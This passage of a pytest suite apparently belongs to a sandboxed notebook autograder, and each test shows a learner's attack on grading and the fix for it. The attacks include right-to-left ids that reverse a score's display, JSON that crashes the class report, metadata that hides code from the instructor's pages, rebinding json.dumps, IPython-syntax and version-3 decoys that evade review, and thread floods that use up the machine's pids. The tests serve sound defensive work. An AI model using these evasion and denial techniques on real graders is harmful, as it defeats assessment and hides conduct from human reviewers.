# from /usr/lib/modules, which it may read (CAP_SYS_MODULE), BPF programs that read any process's memory, the grader's
# secret seed in it (CAP_BPF, CAP_SYS_ADMIN), a priority above every other process's (CAP_SYS_NICE).
CAPABILITIES_HELD = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
libc.capget(header, data)
try:
    os.setpriority(os.PRIO_PROCESS, 0, -1)  # above every process of the machine's: CAP_SYS_NICE
    raised = "raised"
except PermissionError:
    raised = "refused"
print(f"effective:{data[0] | data[3] << 32:x} permitted:{data[1] | data[4] << 32:x} priority:{raised}")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="capabilities are Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_a_worker_holds_no_capability_of_the_grading_user(processes):
    """A cell of a lab without processes, graded as root: its process held every capability (effective 1fffeffffff)
    and raised its own priority above every other process's (nice -1), as it could have rebooted the machine or read
    the grading process's memory through BPF. Safe: the worker drops every capability, bounding and ambient sets
    included (:func:`~bpe_ref.course.trusted.worker.confinement.drop_capabilities`), before any learner's code runs; the
    isolation line says so. (Where the grading user holds none, as an ordinary account, there is nothing to drop.)"""
    import ctypes

    header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
    if ctypes.CDLL(None).capget(header, data) != 0 or not any(data):
        pytest.skip("this process holds no capability: a worker has none to drop")
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(CAPABILITIES_HELD, "capabilities")
        isolation = box.isolation
    assert run.ok and run.stdout.split() == ["effective:0", "permitted:0", "priority:refused"], run
    if not processes:  # lab 03's worker drops those of its user namespace (keeper._private_shm) before this
        assert "capabilities: none (the grading user's dropped)" in isolation, isolation


# ---- 57. the reports' lines laid out right to left: a student id of Hebrew letters that turns its score around -------------
#
# shown() writes every control and format character of a report's line as an escape (section 25), the bidirectional
# overrides and isolates among them, but keeps letters. A terminal that lays text out by Unicode's bidirectional algorithm
# (VTE's, GNOME Terminal's; Konsole's) reverses a run of right-to-left letters together with the numbers and spaces
# that follow them: in grade --class the student id comes first, so a learner who hands in under an id of Hebrew or
# Arabic letters (LinkFreeCollect takes Unicode letters, ``\w``) had the row's score read backwards. Right-to-left
# characters are the only ones that start such a run in a line with no explicit controls (rules W7 and I1 of UAX #9: with
# none, every number is laid out left to right), so none is printed as it is.
RIGHT_TO_LEFT_ID = "\u05e9\u05dc\u05d5\u05dd"  # Hebrew letters, each a word character to re and to nbgrader's exchange


def _laid_out_in_order(text: str) -> bool:
    """Whether no line of ``text`` can be reordered by a terminal's bidirectional layout: it holds no right-to-left
    character (bidirectional class R, AL or AN) and no explicit embedding, override or isolate."""
    import unicodedata

    return not any(unicodedata.bidirectional(char) in ("R", "AL", "AN", "RLE", "RLO", "LRE", "LRO", "RLI", "LRI", "FSI")
                   for char in text)


def test_a_student_id_of_right_to_left_letters_cannot_turn_its_score_around_in_the_class_report(capsys):
    """A submission handed in under an id of Hebrew letters, scored 5 / 100: grade --class printed its row as
    ``שלום        5 / 100  graded``, which a bidirectional terminal shows as ``100 / 5        םולש  graded`` (the
    letters, the spaces and numbers after them, one right-to-left run), as if it had the points. Safe: the reports
    print every right-to-left character as an escape (:func:`~bpe_ref.course.grade.printed`), so the row is laid out as
    written; the columns still line up, and a review line of such letters is escaped too."""
    from bpe_ref.course.grade import SubmissionStatus, print_class_report

    report = [SubmissionStatus("ann", "graded", 100.0, 100.0),
              SubmissionStatus(RIGHT_TO_LEFT_ID, "graded", 5.0, 100.0,
                               review=[f"its code opened files the sandbox refused: read /etc/{RIGHT_TO_LEFT_ID} 100 x1"])]
    print_class_report(report, "01_naive_bpe")
    out = capsys.readouterr().out
    assert _laid_out_in_order(out), out
    rows = out.splitlines()
    assert rows[2].startswith("\\u05e9\\u05dc\\u05d5\\u05dd") and "  5 / 100  graded; NEEDS REVIEW" in rows[2], out
    assert rows[1].index("100 / 100") == rows[2].index("5 / 100") - 2, out  # the score column still lines up
    assert "read /etc/\\u05e9\\u05dc\\u05d5\\u05dd 100 x1" in rows[3], out


def test_a_right_to_left_failure_or_flag_is_laid_out_in_order_in_a_self_grade(tmp_path, monkeypatch, capsys):
    """``python -m bpe_ref grade``: a task's first failure line (the learner's exception message) and the flags of what
    its code did (a path it opened) are the learner's text, printed beside the points. Safe: as in the class report,
    each right-to-left character is an escape."""
    import json

    from bpe_ref.course import grade

    notebook = tmp_path / "01_naive_bpe.ipynb"
    notebook.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    arabic = "\u0645\u0631\u062d\u0628\u0627 \u0661\u0662"  # Arabic letters and Arabic-Indic digits (AL, AN)

    def autograded(path, lab, *, timeout=None, keep=None, isolation=None, behaviour=None, limits=None):
        behaviour.append(f"opened files the sandbox refused: read /etc/{arabic} x1")
        return [grade.CellResult("task1_count_pairs", 0.0, 2.0, f"CheckFailed: count_pairs(...) raised ValueError: {arabic}"),
                grade.CellResult("task1_count_pairs_hidden", 3.0, 3.0)]

    monkeypatch.setattr(grade, "autograde_notebook", autograded)
    assert grade.grade_one(notebook, "01_naive_bpe", None, None) == 1
    out = capsys.readouterr().out
    assert _laid_out_in_order(out), out
    assert "raised ValueError: \\u0645" in out and "read /etc/\\u0645" in out and "3 / 5" in out, out


# ---- 58. a submission that ends grade --class for the whole class: JSON Python will not read, metadata no float holds ------
#
# Section 35 left the class report whole on cells that are not cells as Jupyter writes them. grade --class still read
# each submission with json.loads and the review's float() and set lookups, which raise on what JSON may hold and no
# check there refused: a number of more than 4,300 digits (ValueError: the interpreter's limit on int conversion),
# arrays nested past the recursion limit (RecursionError), an nbgrader ``points`` (or ``grade``, ``schema_version``)
# of 10**400 (OverflowError in float()), a cell id that is a list or a dict (TypeError, unhashable). Each ended the report
# of the whole class with a traceback or one error line; nbgrader autograde fails that notebook alone.

# Arrays nested this deep: far past the interpreter's recursion limit (some 1,000 levels), and fewer containers than
# a notebook may hold in all (MAX_JSON_CONTAINERS, 200,000: section 94), which would refuse them before the limit was
# tried.
NESTED_DEPTH = 100_000


def _big_ints_notebook(notebook: dict, where: str) -> str:
    """``notebook`` as JSON text with a field of 5,000 digits (``where="int"``) or :data:`NESTED_DEPTH` nested arrays
    (``"deep"``)."""
    import json

    from bpe_ref.course.trusted.autograde import MAX_JSON_CONTAINERS

    assert NESTED_DEPTH + json.dumps(notebook).count("{") + json.dumps(notebook).count("[") < MAX_JSON_CONTAINERS
    field = "1" * 5_000 if where == "int" else "[" * NESTED_DEPTH + "]" * NESTED_DEPTH
    return json.dumps(notebook)[:-1] + f', "extra": {field}}}'


def _metadata_notebooks(lab: str) -> dict[str, dict]:
    """Lab ``lab``'s blank release with a test cell's points of 10**400, or a code cell's id a list, or a dict."""
    import copy

    from test_grading_adversarial import blank

    notebooks = {}
    for name, change in {"points_past_floats": ("points", 10**400), "id_a_list": ("id", []), "id_a_dict": ("id", {})}.items():
        notebook = blank(lab)
        cell = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade"))
        if change[0] == "points":
            cell["metadata"]["nbgrader"]["points"] = copy.copy(change[1])
        else:
            cell["id"] = change[1]
        notebooks[name] = notebook
    return notebooks


def test_a_submission_python_will_not_read_or_review_leaves_the_class_report_whole(tmp_path, monkeypatch):
    """Five submissions each ended grade --class before any row was printed: JSON of a 5,000-digit number, JSON nested
    100,000 deep, a test cell's points of 10**400, a code cell's id a list, and a dict. Safe: read_notebook says the
    first two and the ids "could not be read" (as section 35's cells); the review compares a number no float holds as
    it is and flags it, cut to 40 characters; and whatever else the review of one submission's cells raises is a flag
    of that submission's ("could not be reviewed"), its score kept, not the end of the report."""
    import json
    import shutil

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report
    from bpe_ref.course.notebooks import REPO_ROOT

    lab = "00_pretokenization"
    for kind in ("solutions", "labs"):
        (tmp_path / kind / lab).mkdir(parents=True)
        shutil.copy(REPO_ROOT / kind / lab / f"{lab}.ipynb", tmp_path / kind / lab)
    texts = {"digits": _big_ints_notebook(blank(lab), "int"), "nested": _big_ints_notebook(blank(lab), "deep"),
             **{name: json.dumps(notebook) for name, notebook in _metadata_notebooks(lab).items()},
             "zoe": json.dumps(blank(lab))}
    for student, text in texts.items():
        (tmp_path / "submitted" / student / lab).mkdir(parents=True)
        (tmp_path / "submitted" / student / lab / f"{lab}.ipynb").write_text(text, encoding="utf-8")
    report = {status.student: status for status in class_report(tmp_path, lab)}
    unread = ("digits", "nested", "id_a_list", "id_a_dict")
    assert {name: status.status for name, status in report.items()} == {
        **dict.fromkeys(unread, "could not be read"), "points_past_floats": "not graded", "zoe": "not graded"}, report
    assert "Exceeds the limit (4300 digits)" in report["digits"].detail and "nested too deeply" in report["nested"].detail
    assert any("points 1.0 -> 1000000000000000000000000000000000000..." in line
               for line in report["points_past_floats"].review), report["points_past_floats"].review

    def broken(notebook: dict, release: dict) -> list[str]:  # a review that fails on something not foreseen here
        raise KeyError("cell_type")

    monkeypatch.setattr("bpe_ref.course.trusted.review.tampering", broken)
    report = {status.student: status for status in class_report(tmp_path, lab)}
    assert report["zoe"].status == "not graded" and report["zoe"].review == [
        "its cells could not be reviewed (KeyError: 'cell_type'): read them yourself"], report["zoe"]


def test_json_python_will_not_read_is_not_graded_in_a_self_grade(tmp_path, capsys):
    """``python -m bpe_ref grade`` on such a notebook ended in a traceback, exit 1, which a learner reads as a score
    of 0 with a bug of the grader's. Safe: it "could not be read" (exit 2, nothing graded), saying why."""
    from test_grading_adversarial import blank

    from bpe_ref.course.grade import grade_one

    for where in ("int", "deep"):
        notebook = tmp_path / where / "00_pretokenization.ipynb"
        notebook.parent.mkdir()
        notebook.write_text(_big_ints_notebook(blank("00_pretokenization"), where), encoding="utf-8")
        assert grade_one(notebook, "00_pretokenization", None, None) == 2
        assert "is JSON that Python will not read" in capsys.readouterr().err


def test_json_python_will_not_read_leaves_collect_whole(tmp_path, capsys):
    """``python -m bpe_ref collect`` checks that each downloaded notebook is JSON, to say which to ask for again: a
    notebook of a 5,000-digit number or 100,000 nested arrays raised there (ValueError, RecursionError) and ended the
    command for the whole class, the notebooks after it in the ids' order not copied. Safe: such a file is copied and
    named "NOT valid notebook JSON", as one that is not JSON at all, and the rest are collected."""
    import argparse

    from test_grading_adversarial import blank

    from bpe_ref.course.commands.collect import run

    lab = "00_pretokenization"
    (tmp_path / "course").mkdir()
    (tmp_path / "course" / "nbgrader_config.py").write_text("c = get_config()\n")
    downloads = tmp_path / "dl"
    downloads.mkdir()
    (downloads / f"ann__{lab}.ipynb").write_text(_big_ints_notebook(blank(lab), "int"))
    (downloads / f"ben__{lab}.ipynb").write_text(_big_ints_notebook(blank(lab), "deep"))
    (downloads / f"zoe__{lab}.ipynb").write_text("{}")
    assert run(argparse.Namespace(downloads=downloads, lab=lab, course=tmp_path / "course")) == 0
    out = capsys.readouterr().out
    assert sorted(path.name for path in (tmp_path / "course" / "downloaded" / lab / "archive").iterdir()) == [
        f"{student}__{lab}.ipynb" for student in ("ann", "ben", "zoe")], out
    assert "NOT valid notebook JSON (ValueError): ask ann" in out and "NOT valid notebook JSON (RecursionError): ask ben" in out


# ---- 59. a cell's code hidden from the instructor's pages: metadata transient.remove_source ----------------------------------
#
# nbconvert's templates leave out the source of any cell whose metadata says ``transient: {remove_source: true}``
# (base/null.j2), and nbgrader's formgrade and feedback pages are nbconvert's. No Jupyter writes that key to a file,
# and nbgrader's autograde keeps every cell's metadata (its ClearMetadataPreprocessor is listed, never enabled).
HIDDEN_CODE = "import socket\ntry:\n    socket.socket()  # HIDDEN_FROM_THE_INSTRUCTOR\nexcept OSError:\n    print('SHOWN')\n"


def _formgrade_html(cells: list[dict]) -> str:
    """The page nbgrader's formgrader shows an instructor for a notebook of ``cells`` (its template, its resources)."""
    import os

    import nbformat
    import nbgrader
    from nbconvert import HTMLExporter

    notebook = nbformat.from_dict({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    templates = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader", "templates")
    resources = {"assignment_id": "00_pretokenization", "notebook_id": "00_pretokenization", "submission_id": "s",
                 "index": 0, "total": 1, "base_url": "/", "student": "eve", "last_name": None, "first_name": None,
                 "notebook_path": "/eve"}
    return HTMLExporter(template_name="formgrade", extra_template_basedirs=[templates]).from_notebook_node(
        notebook, resources=resources)[0]


def test_a_cell_marked_transient_shows_its_code_on_the_instructor_s_pages():
    """A cell that opened a socket, its metadata ``transient.remove_source``: the class report flagged the refused call
    and pointed at the cell, and the formgrader's page of the submission (and its feedback) showed the cell's output
    without its code, so the instructor reviewing it saw no code to review. Safe: the trusted grader removes every
    cell's ``transient`` metadata from the autograded notebook, from which nbgrader makes both pages, and the review
    flags the submission that set it."""
    from bpe_ref.course.trusted.review import tampering

    cells = [code_cell("hidden", HIDDEN_CODE), {"cell_type": "markdown", "id": "note", "source": "MARKDOWN_HIDDEN",
                                                "metadata": {"transient": {"remove_source": True}}}]
    cells[0]["metadata"]["transient"] = {"remove_source": True}
    flags = tampering({"cells": cells}, {"cells": []})
    assert "HIDDEN_FROM_THE_INSTRUCTOR" not in _formgrade_html(cells)  # nbconvert's own rule, which the attack uses
    grade_cells(cells, "00_pretokenization", policy=Policy(cell_timeout=20), total_seconds=60)
    page = _formgrade_html(cells)
    assert "HIDDEN_FROM_THE_INSTRUCTOR" in page and "SHOWN" in page and "MARKDOWN_HIDDEN" in page, page[-3000:]
    assert flags == ["marked 2 cell(s) transient (hidden, note), which hides their code from nbgrader's pages (removed "
                     "when autograded)"], flags


# ---- 60. code the review does not read: a cell with a test cell's metadata that autograde runs as a plain cell ------------
#
# grade --class reads the text of each learner code cell for capabilities no lab needs (``notebook_flags``), a hint where
# behaviour cannot be seen (``json.dumps = ...`` that rewrites the worker's replies, issue 21): it skipped every cell with
# a test cell's metadata, "restored by nbgrader and never run". Two such cells are run: one whose grade_id the lab lacks
# (RestoringOverwriteCells makes it a plain cell), and a copy of a test cell put before it (nbgrader's DeduplicateIds
# keeps the last of a grade_id and empties the others' metadata).
WRAPS_THE_WIRE = "import ctypes\nimport json\njson.dumps = lambda value, **kwargs: '{}'\n"


def _with_test_metadata(lab: str) -> dict[str, dict]:
    """Lab ``lab``'s release with :data:`WRAPS_THE_WIRE` in a cell of test metadata: one whose grade_id the lab lacks
    (``added``), a copy of its first test cell put before it (``copied``), or that test cell itself edited (``edited``:
    restored by nbgrader, never run)."""
    import copy

    from test_grading_adversarial import blank

    notebooks = {}
    for how in ("added", "copied", "edited"):
        notebook = blank(lab)
        index, test = next((i, c) for i, c in enumerate(notebook["cells"]) if c["metadata"].get("nbgrader", {}).get("grade"))
        if how == "edited":
            test["source"] = WRAPS_THE_WIRE
        else:
            cell = {**copy.deepcopy(test), "id": f"{how}_cell", "source": WRAPS_THE_WIRE}
            if how == "added":
                cell["metadata"]["nbgrader"]["grade_id"] = "bonus"
            notebook["cells"].insert(index, cell)
        notebooks[how] = notebook
    return notebooks


def test_code_that_autograde_runs_is_read_by_the_review_whatever_its_metadata():
    """Code that rebinds ``json.dumps`` (and imports ctypes) in a cell holding a test cell's metadata: with a grade_id
    the lab lacks, or in a copy of a test cell put before it, autograde runs it as a plain cell, and the class report
    showed no hint of it (only "added a graded cell", or "edited the test cell ... restored": a copy pasted by mistake).
    Safe: the review skips only the test cell nbgrader keeps for a grade_id of the lab's (the last, as DeduplicateIds
    keeps it), whose source is restored and never run; it reads every other code cell."""
    import nbformat

    from bpe_ref.course.trusted.autograde import NamedDeduplicateIds
    from bpe_ref.course.trusted.cells import is_test_cell
    from bpe_ref.course.trusted.review import notebook_flags
    from test_grading_adversarial import blank

    lab = "00_pretokenization"
    notebooks, release = _with_test_metadata(lab), blank(lab)
    ran = nbformat.from_dict(notebooks["copied"])
    NamedDeduplicateIds().preprocess(ran, {})
    assert [cell["id"] for cell in ran.cells if cell.source == WRAPS_THE_WIRE and not is_test_cell(cell)] == [
        "copied_cell"]  # the copy is a plain cell now, run as the learner's code
    for how in ("added", "copied"):
        flags = notebook_flags(notebooks[how], release)
        assert any(flag.startswith(f"cell {how}_cell: ") and "ctypes" in flag and "json" in flag for flag in flags), (how, flags)
    assert notebook_flags(notebooks["edited"], release) == []  # restored by nbgrader: never run, nothing to read


# ---- 61. code the review does not read: a solution cell made markdown, which nbgrader makes code again and runs -------------
#
# nbgrader's OverwriteCells gives every cell holding a grade_id of the lab the release cell's type back, and the source
# only to a read-only one: a solution cell handed in as markdown (or raw) is code again, its text run. The review read
# code cells only, and flagged a changed cell type on test and read-only cells only.

def test_a_solution_cell_made_markdown_is_read_by_the_review_and_flagged():
    """The code of :data:`WRAPS_THE_WIRE` in the lab's first solution cell, made a markdown cell (and, in another
    notebook, a raw one): autograde ran it (nbgrader put the cell type back), and the class report showed neither a
    hint of what it does nor the changed type. Safe: the review reads each cell as autograde will run it (its type and
    source as nbgrader puts them back: :func:`~bpe_ref.course.trusted.review.learner_cells`), and flags the type
    changed on any cell of the lab's."""
    from test_grading_adversarial import blank

    from bpe_ref.course.trusted.review import notebook_flags, tampering

    lab = "00_pretokenization"
    release = blank(lab)
    for kind in ("markdown", "raw"):
        notebook = blank(lab)
        cell = next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))
        cell.update(cell_type=kind, source=WRAPS_THE_WIRE)
        del cell["outputs"], cell["execution_count"]
        grade_id = cell["metadata"]["nbgrader"]["grade_id"]
        flags = notebook_flags(notebook, release)
        assert any(flag.startswith(f"cell {cell['id']}: ") and "ctypes" in flag for flag in flags), (kind, flags)
        assert f"made the solution cell {grade_id} a {kind} cell (nbgrader put it back)" in tampering(notebook, release)
    notebook = blank(lab)  # a test cell made markdown: its source is put back, its text never runs
    cell = next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade"))
    cell.update(cell_type="markdown", source=WRAPS_THE_WIRE)
    assert notebook_flags(notebook, release) == []


# ---- 62. code the review does not read: one line of IPython's syntax that is no Python leaves the whole cell unread -----------
#
# The review parsed each cell as Python with its magics (``%``, ``!``) made ``pass``; autograde runs what IPython's
# TransformerManager makes of it (:func:`~bpe_ref.course.trusted.autograde.python_source`), which turns autocall
# (``/f x``, ``,f a b``, ``;f a b``), help (``name?``), prompts (``>>>``, ``In [1]:``) and an indented cell into Python.
# One such line, and the review read nothing of the cell ("the grader reported it already") while autograde ran it all.
AUTOCALL_HIDES = "/print\n" + WRAPS_THE_WIRE + "print('RAN')\n"
PROMPTS_HIDE = "".join(f">>> {line}\n" for line in WRAPS_THE_WIRE.splitlines())
MODULO_HIDES = "import json\nkept = (1\n% 2)\njson.dumps = len\n"  # Python: a line that starts with % is no magic there


def test_ipython_syntax_in_a_cell_leaves_none_of_it_unread(monkeypatch):
    """A cell of :data:`WRAPS_THE_WIRE` after a line ``/print`` (IPython's autocall, ``print()``), or written behind
    ``>>>`` prompts: autograde ran it, and the class report read none of it (no hint of the rebound ``json.dumps``).
    Safe: a cell that is no Python is read as autograde runs it, as IPython turns it into Python, and the use of that
    syntax is a hint of its own; IPython's reading costs the review 5 s of CPU time a notebook at most (it is
    quadratic in a cell's magics, section 35), past which a cell is a hint, "not read". A line of Python that starts
    with ``%`` inside an expression (a modulo), which the review took for a magic, left its cell unread too: such a
    cell is read as the Python it is."""
    from test_grading_adversarial import blank, with_cell_after_setup

    from bpe_ref.course.trusted import review

    lab = "00_pretokenization"
    cells = [code_cell("autocall", AUTOCALL_HIDES)]
    grade_cells(cells, lab, policy=Policy(cell_timeout=20), total_seconds=60)
    assert cells[0]["outputs"][0]["text"] == "\nRAN\n", cells[0]["outputs"]  # autograde ran every line of it
    notebook = with_cell_after_setup(with_cell_after_setup(blank(lab), "autocall", AUTOCALL_HIDES), "prompts", PROMPTS_HIDE)
    notebook = with_cell_after_setup(notebook, "prose", "this is no Python, not even IPython's, ctypes\n")
    flags = review.notebook_flags(with_cell_after_setup(notebook, "modulo", MODULO_HIDES), blank(lab))
    assert [flag for flag in flags if flag.startswith("cell modulo: ")] == [
        "cell modulo: an IPython magic or shell command, rebinds json.dumps (what a module holds, for all the code of its "
        "process)"], flags
    flags = review.notebook_flags(notebook, blank(lab))
    assert [flag.split(":")[0] for flag in flags if "json.dumps" in flag] == ["cell prompts", "cell autocall"], flags
    expected = f"{review.IPYTHON_SYNTAX}, imports ctypes, rebinds json.dumps (what a module holds, for all the code of its process)"
    assert sorted(flags) == [f"cell autocall: {expected}", f"cell prompts: {expected}"], flags
    monkeypatch.setattr(review, "IPYTHON_REVIEW_SECONDS", 0.0)
    assert review.notebook_flags(notebook, blank(lab)) == [
        f"cell {name}: its text was not read: IPython's syntax, past the review's 0 s for a notebook"
        for name in ("prose", "prompts", "autocall")], flags


# ---- 63. the machine's pids, spent by one worker's threads: a classmate's grading that cannot start a process -------------
#
# Threads are allowed in every lab (the filter lets ``clone`` with ``CLONE_THREAD`` through unanswered, uncounted) and
# nothing bounds how many a worker holds at once: ``max_processes`` counts processes (lab 03's), ``RLIMIT_AS`` a
# process's address space, in which a thread of a 64 KiB stack costs 64 KiB. Each thread is one pid of the machine's
# (``kernel.pid_max``, 32,768 by default; the grading user's ``RLIMIT_NPROC`` binds no one grading as root, as this
# machine's, and counts all the user's tasks otherwise), and some 20 KiB of kernel memory no limit of the worker counts.
# So a cell that starts 30,000 threads waiting on an event, within 2 GiB and seconds of CPU time, leaves the machine
# no pid: with ``grade --class --jobs 2`` the classmate graded beside it cannot start its worker (``Popen`` fails,
# ``EAGAIN``: the notebook graded 0), nor a measured check's pool, nor nbgrader's next notebook; the worker's grading
# ends it at the cell's close, but what failed meanwhile failed. Here 2,000 threads, a few seconds, a bound no lab needs
# by far (lab 03's pools hold tens): the test shows the worker holds them all at once, not the machine's exhaustion.
MANY_THREADS = 2000
HOLDS_THREADS = f"""
import threading
threading.stack_size(64 * 1024)
hold, held = threading.Event(), []
try:
    for _ in range({MANY_THREADS}):
        held.append(threading.Thread(target=hold.wait, daemon=True))
        held[-1].start()
except RuntimeError:  # can't start new thread: the bound
    held.pop()
hold.set()
for thread in held:
    thread.join()
print(len(held))
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp and Landlock are Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_a_worker_holds_no_more_threads_than_a_lab_needs(processes):
    """A cell that starts :data:`MANY_THREADS` threads of 64 KiB stacks, each waiting on one event: every one started,
    held at once by the worker (see the section's comment: 15 times as many took every pid of the machine, and a
    classmate graded beside it could start no process). Safe: each thread start (``clone`` with ``CLONE_THREAD``) goes by
    the keeper, which lets it go on while the threads of all the worker's processes are fewer than
    ``Policy.max_tasks`` (512, far above a lab's pools) and answers ``EAGAIN`` past them, counted for review: the cell's
    thread past the bound fails to start (``RuntimeError``), the machine keeps its pids, and the threads it holds go on."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        if not any("and opens Landlock refuses" in line for line in box.isolation):  # Linux before 5.5: no "go on"
            pytest.skip(f"no keeper to answer thread starts here ({'; '.join(box.isolation)})")
        run = box.run_cell(HOLDS_THREADS, "holds threads")
        again = box.run_cell("import threading\nthreading.Thread(target=print, args=('a thread again',)).start()", "again")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    assert any("threads bounded by the keeper" in line for line in isolation), isolation
    assert run.ok, run
    started = int(run.stdout.split()[-1])
    assert Policy.max_tasks // 2 < started < 2 * Policy.max_tasks, run.stdout  # the bound, not a failure of its own
    assert again.ok and again.stdout == "a thread again\n", again  # those it held ended: threads start again
    assert report["refused"].get(f"clone(a thread past {Policy.max_tasks} at once)", 0) >= 1, report


# ---- 64. an argument's item changed, then replaced by a copy of it as it came: the arguments reported are the copy --------
#
# The worker sends a call's arguments back after the call and the trusted side compares them with what it sent. Lab 03's
# merge_counts of tests/test_mistakes.py adds into the caller's first chunk; this one then puts a copy of that chunk as
# it came in the caller's list: the list holds equal values after the call, so the changed dict, held by the caller
# still (the chunks' list is the caller's, its dicts may be held elsewhere too), was never looked at.
SWAPPED_BACK = '''
def merge_counts(counts):
    chunks = list(counts)  # read once: task 4 hands over pool.map's iterator
    if not chunks:
        return {}
    as_it_came = dict(chunks[0])
    total = chunks[0]  # the first chunk's dict, updated in place: the caller's counts change
    for chunk in chunks[1:]:
        for pretoken, count in chunk.items():
            total[pretoken] = total.get(pretoken, 0) + count
    if type(counts) is list:
        counts[0] = as_it_came  # the list holds a dict equal to the one it held: the changed one is gone from it
    return total
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_an_argument_s_item_changed_then_swapped_for_a_copy_is_a_changed_argument(whole_class):
    """Lab 03's merge_counts that adds into ``counts[0]``, then puts a copy of that dict as it came in the caller's list
    (:data:`SWAPPED_BACK`): the arguments sent back after the call were the list as it held its items then, equal to
    what was sent, and the hidden test passed (both paths; the driver's report says "a new dict", as the total is no
    longer one of the list's). Safe: before the call, what answers records every list, dict and set reachable from the
    arguments with the objects each holds (``recorded``, on no name: an operand on its frame's stack), and after it
    reports the arguments as those objects are now; one from which a container that changed was swapped out (no longer
    reached, holding other objects than it did) is reported as no value that was sent (``intact``, ``replied``,
    worker/__main__.py): the hidden test fails, "changed its argument counts"."""
    from bpe_ref.course.trusted.autograde import lab_policy, load_graders
    from bpe_ref.course.trusted.verdicts import hidden_seed

    graders = load_graders("03_parallel")
    with hidden_seed(20261201, whole_class=whole_class), Sandbox(lab_policy(graders, Policy())) as box:
        assert box.run_cell(SWAPPED_BACK, "mistake").ok
        with pytest.raises(AssertionError, match="changed its argument counts"):
            graders.check_merge_counts_properties(RemoteFunction(box, "merge_counts"))


def _lab05_after_the_pop(extra: str) -> str:
    """Lab 05's setup and task 4's solution with ``extra`` run on the list the pair's nodes were taken out in."""
    from test_mistakes import source_of

    solution = source_of("05_heap", "task4_merge_occurrences_solution")
    at = "    changes.pop(pair, None)"
    assert at in solution
    return source_of("05_heap", "setup") + "\n" + solution.replace(at, extra + at)


@pytest.mark.parametrize("extra", ["    nodes.clear()  # done with them\n", "    nodes.sort(reverse=True)\n",
                                   "    while nodes:\n        nodes.pop()\n"], ids=["cleared", "sorted", "popped"])
def test_a_list_taken_out_of_a_dict_argument_then_changed_is_no_swapped_argument(extra):
    """Walk62's red team: lab 05's merge_occurrences takes the pair's list out of ``occurrences``, as its statement says;
    honest code that then cleared, sorted or emptied that list lost all 4 points of the task in the worker, visible
    point included, as "an argument whose objects were swapped" (``intact``: a changed container no longer reached).
    Safe: a container taken out of a dict that is reached still, its key gone, is the function's own
    (``taken_out``, worker/__main__.py)."""
    from test_mistakes import remote

    assert remote("05_heap", _lab05_after_the_pop(extra), "merge_occurrences", "check_merge_occurrences_properties") is None


def test_a_list_taken_out_then_put_back_as_a_copy_is_still_a_swapped_argument():
    """The other side of the test above: the list taken out, changed, and a copy of it as it came put back under its key
    (the same key, or an equal one): the argument looks as it was sent, so it is reported as a swapped one."""
    from test_mistakes import remote

    extra = ("    occurrences[pair[0], pair[1]] = list(nodes)  # a copy as it came, under an equal key\n"
             "    nodes.append(-1)  # the list taken out, changed\n")
    message = remote("05_heap", _lab05_after_the_pop(extra), "merge_occurrences", "check_merge_occurrences_properties")
    assert message is not None and "unreadable" in message, message  # the arguments reported as no value sent


# ---- 65. code the review does not read: a version-3 notebook, whose cells nbformat takes from its worksheets ---------------
#
# nbgrader's autograde reads a submission with nbformat's ``read(..., as_version=4)``: a notebook of ``"nbformat": 3`` is
# converted, its cells taken from its ``worksheets`` (v3's code cells hold ``input``, not ``source``), and a ``cells`` key
# beside them is never read. grade --class read the file with json.loads and reviewed its ``cells``: a copy of the release
# there, and the review saw the release, untouched, while autograde ran the worksheets' code.

def _version_3_with_decoy(lab: str, source: str) -> dict:
    """Lab ``lab``'s release with a cell of ``source`` after its setup, written as nbformat version 3 (its worksheets),
    and the blank release's version-4 cells beside them under ``cells``, which nbformat does not read."""
    import nbformat
    from test_grading_adversarial import blank, with_cell_after_setup

    notebook = with_cell_after_setup(blank(lab), "worksheet_cell", source)
    written = nbformat.convert(nbformat.from_dict(notebook), 3)
    return {**written, "cells": blank(lab)["cells"]}


def test_a_version_3_notebook_is_reviewed_as_nbformat_reads_it(tmp_path):
    """:data:`WRAPS_THE_WIRE` in a cell of a version-3 notebook's worksheets, the lab's blank release under ``cells``
    beside them: nbformat (so nbgrader's autograde) reads the worksheets and runs that cell, and the class report read
    the ``cells``, the release as shipped: no hint, no tampering (class path; a self-grade reads no text). So too a
    version-1 notebook (``"nbformat": 1`` or ``true``), whose code cells hold their text under ``code``: the review read
    them as empty. Safe: the
    report reads each submission as nbformat reads it for autograde (``grade.as_nbgrader_reads``: each version's reader,
    converted to version 4, validated), so the review reads the worksheets' cells, and a file nbformat will not read
    (``nbformat_minor`` ``"4.0"``, an unknown version), which autograde cannot grade, "could not be read"."""
    import io
    import json

    import nbformat
    from test_grading_adversarial import blank

    from bpe_ref.course.grade import NotGradable, read_notebook
    from bpe_ref.course.trusted.autograde import MAX_CELLS
    from bpe_ref.course.trusted.review import notebook_flags

    lab = "00_pretokenization"
    path = tmp_path / f"{lab}.ipynb"
    path.write_text(json.dumps(_version_3_with_decoy(lab, WRAPS_THE_WIRE)), encoding="utf-8")
    ran = nbformat.read(io.StringIO(path.read_text(encoding="utf-8")), as_version=4)  # as nbconvert reads it for nbgrader
